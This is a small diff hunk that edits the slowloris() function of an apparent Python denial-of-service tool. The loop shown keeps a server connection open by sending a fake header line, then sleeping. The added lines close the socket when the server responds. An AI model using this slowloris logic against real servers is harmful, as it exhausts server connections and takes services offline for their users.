@@ -250,6 +250,8 @@ def slowloris():
             while time.monotonic() < END:
                 sock.sendall(b"X-a: b\r\n")
                 time.sleep(S["every"])
+            if select.select([sock], [], [], 0)[0]:
+                sock.close()
         except OSError:
             sock.close()
 
